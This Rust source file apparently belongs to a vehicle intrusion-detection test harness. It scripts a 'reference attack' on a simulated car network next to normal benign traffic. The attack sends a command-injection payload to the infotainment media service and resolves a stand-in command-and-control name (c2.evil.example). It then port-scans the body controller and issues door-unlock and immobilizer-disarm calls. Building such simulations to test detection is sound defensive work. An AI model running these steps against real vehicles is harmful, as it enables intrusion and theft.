//! The attacker of the reference attack, and the benign traffic of a normal drive: real
//! requests from the ECUs' own addresses, each step reported as a JSON line.

use std::io::{BufRead, BufReader, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use someip_rs::transport::UdpClient;
use someip_rs::{ClientId, MethodId, ServiceId, SomeIpMessage};
use vsiem_topology::{AddressMode, Topology};

use super::body::{self, CLIMATE, DOOR_LOCK, IMMOBILIZER};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Scenario {
    /// DESIGN.md's reference attack: exploit the IVI, then move laterally to the body controller.
    Reference,
    /// A normal drive: allowed calls only.
    Benign,
}

/// One step as the attacker saw its outcome.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Step {
    /// Always "attack", so a step reads as what it is among other JSON lines.
    pub kind: String,
    pub step: String,
    pub from: String,
    pub outcome: String,
    pub timestamp_ns: u64,
}

pub struct Attacker<'a> {
    pub topology: &'a Topology,
    pub addressing: AddressMode,
    /// The IVI media service the exploit targets.
    pub ivi_media: SocketAddr,
    /// How long the attacker keeps trying once its first requests were refused.
    pub persistence: Duration,
    /// Only the steps sent from here (`OUTSIDE` or an ECU's name); `None`: every step. On
    /// separate hosts each part runs where its packets come from: the exploit outside the car,
    /// the lateral movement on the compromised IVI.
    pub from: Option<String>,
}

/// Where the exploit comes from: not a host of the vehicle.
pub const OUTSIDE: &str = "outside";

const REPLY_TIMEOUT: Duration = Duration::from_millis(500);
/// The shell command the exploit injects: plant an implant in the read-only system tree and
/// stay around long enough to be an observable process.
const PAYLOAD: &str = "x; echo implant >> opt/ivi/system/bin/ivi-update; sleep 3";

/// A SOME/IP method call of the script.
struct Call {
    service: u16,
    method: u16,
    name: &'static str,
    payload: &'static [u8],
}

const LOCK: Call = Call {
    service: DOOR_LOCK,
    method: body::LOCK,
    name: "DoorLock.Lock",
    payload: &[],
};
const UNLOCK: Call = Call {
    service: DOOR_LOCK,
    method: body::UNLOCK,
    name: "DoorLock.Unlock",
    payload: &[],
};
const GET_STATE: Call = Call {
    service: IMMOBILIZER,
    method: body::GET_STATE,
    name: "Immobilizer.GetState",
    payload: &[],
};
const DISARM: Call = Call {
    service: IMMOBILIZER,
    method: body::DISARM,
    name: "Immobilizer.Disarm",
    payload: &[],
};
/// 21.5 degC, at 0.1 degC per bit.
const SET_TEMPERATURE: Call = Call {
    service: CLIMATE,
    method: body::SET_TEMPERATURE,
    name: "Climate.SetTemperature",
    payload: &[0x00, 0xd7],
};

/// Where a request comes from: an ECU's address and the SOME/IP client ID it uses.
struct Caller<'a> {
    ecu: &'a str,
    ip: IpAddr,
    client: u16,
}

impl Attacker<'_> {
    pub fn run(&self, scenario: Scenario, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
        match scenario {
            Scenario::Reference => self.reference(out),
            Scenario::Benign => self.benign(out),
        }
    }

    fn reference(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
        if self.sends_from(OUTSIDE) {
            out(step("exploit", OUTSIDE, self.exploit()));
        }
        if !self.sends_from("ivi") {
            return Ok(());
        }
        let ivi = self.caller("ivi")?;
        let from = ivi.ip.to_string();
        out(step(
            "dns c2.evil.example",
            &from,
            self.dns_lookup(ivi.ip, "c2.evil.example"),
        ));
        out(step(
            "port scan body-dc",
            &from,
            self.port_scan(ivi.ip, "body-dc"),
        ));
        out(self.call(&ivi, &UNLOCK));
        out(self.call(&ivi, &DISARM));
        // Keep trying a call the IVI is normally allowed to make, until the block stops it.
        let start = Instant::now();
        loop {
            let attempt = self.call(&ivi, &LOCK);
            let refused = attempt.outcome != "ok";
            out(attempt);
            if refused || start.elapsed() > self.persistence {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        out(self.call(&ivi, &UNLOCK));
        Ok(())
    }

    fn benign(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
        if self.sends_from("ivi") {
            let ivi = self.caller("ivi")?;
            out(self.call(&ivi, &LOCK));
            out(self.call(&ivi, &SET_TEMPERATURE));
            out(self.call(&ivi, &GET_STATE));
        }
        if self.sends_from("tcu") {
            let tcu = self.caller("tcu")?;
            out(self.call(&tcu, &UNLOCK));
        }
        Ok(())
    }

    fn sends_from(&self, place: &str) -> bool {
        self.from.as_deref().is_none_or(|from| from == place)
    }

    /// An ECU as the topology declares it: its address and its own client ID.
    fn caller<'a>(&self, ecu: &'a str) -> std::io::Result<Caller<'a>> {
        let client = self
            .topology
            .ecu(ecu)
            .and_then(|e| e.client_id)
            .ok_or_else(|| std::io::Error::other(format!("{ecu} has no SOME/IP client ID")))?;
        Ok(Caller {
            ecu,
            ip: self.address(ecu)?,
            client,
        })
    }

    fn address(&self, ecu: &str) -> std::io::Result<IpAddr> {
        self.topology
            .ecu_address(ecu, self.addressing)
            .map(IpAddr::V4)
            .ok_or_else(|| std::io::Error::other(format!("{ecu} has no address")))
    }

    /// Sends the crafted PLAY request to the media service.
    fn exploit(&self) -> String {
        let attempt = || -> std::io::Result<String> {
            let mut stream = TcpStream::connect_timeout(&self.ivi_media, REPLY_TIMEOUT)?;
            stream.set_read_timeout(Some(REPLY_TIMEOUT))?;
            writeln!(stream, "PLAY {PAYLOAD}")?;
            let mut reply = String::new();
            BufReader::new(stream).read_line(&mut reply)?;
            Ok(reply.trim().to_owned())
        };
        attempt().unwrap_or_else(|e| format!("failed: {e}"))
    }

    /// Resolves a C&C name through the TCU's resolver (the IVI's only DNS path).
    fn dns_lookup(&self, from: IpAddr, name: &str) -> String {
        let attempt = || -> std::io::Result<String> {
            let tcu = self.address("tcu")?;
            let socket = UdpSocket::bind((from, 0))?;
            socket.send_to(&dns_query(name), (tcu, 53))?;
            Ok("query sent".to_owned())
        };
        attempt().unwrap_or_else(|e| format!("failed: {e}"))
    }

    /// Probes the SOME/IP port range of an ECU with one-byte datagrams.
    fn port_scan(&self, from: IpAddr, target: &str) -> String {
        let attempt = || -> std::io::Result<String> {
            let ip = self.address(target)?;
            let socket = UdpSocket::bind((from, 0))?;
            let ports = 30490..=30510u16;
            for port in ports.clone() {
                socket.send_to(&[0], (ip, port))?;
            }
            Ok(format!("{} ports probed", ports.len()))
        };
        attempt().unwrap_or_else(|e| format!("failed: {e}"))
    }

    fn call(&self, from: &Caller<'_>, call: &Call) -> Step {
        let attempt = || -> Result<String, Box<dyn std::error::Error>> {
            let provider = self
                .topology
                .service(call.service)
                .ok_or("unknown service")?;
            let ip = self.address(&provider.provider)?;
            let mut socket = UdpClient::bind((from.ip, 0))?;
            socket.set_client_id(ClientId(from.client));
            socket.set_read_timeout(Some(REPLY_TIMEOUT))?;
            let request = SomeIpMessage::request(ServiceId(call.service), MethodId(call.method))
                .payload(call.payload)
                .build();
            let response = socket.call_to((ip, provider.port), request)?;
            Ok(if response.is_ok() {
                "ok".to_owned()
            } else {
                format!("refused: {:?}", response.return_code())
            })
        };
        let outcome = attempt().unwrap_or_else(|e| format!("failed: {e}"));
        step(&format!("someip {}", call.name), from.ecu, outcome)
    }
}

fn step(what: &str, from: &str, outcome: String) -> Step {
    Step {
        kind: "attack".to_owned(),
        step: what.to_owned(),
        from: from.to_owned(),
        outcome,
        timestamp_ns: vsiem_schemas::now_ns(),
    }
}

/// A minimal DNS query (one A question, recursion desired).
fn dns_query(name: &str) -> Vec<u8> {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(u8::try_from(label.len()).unwrap_or(63).min(63));
        q.extend(label.bytes().take(63));
    }
    q.extend([0, 0, 1, 0, 1]);
    q
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dns_query_encodes_labels() {
        let q = dns_query("c2.evil.example");
        assert_eq!(&q[12..], b"\x02c2\x04evil\x07example\x00\x00\x01\x00\x01");
    }
}
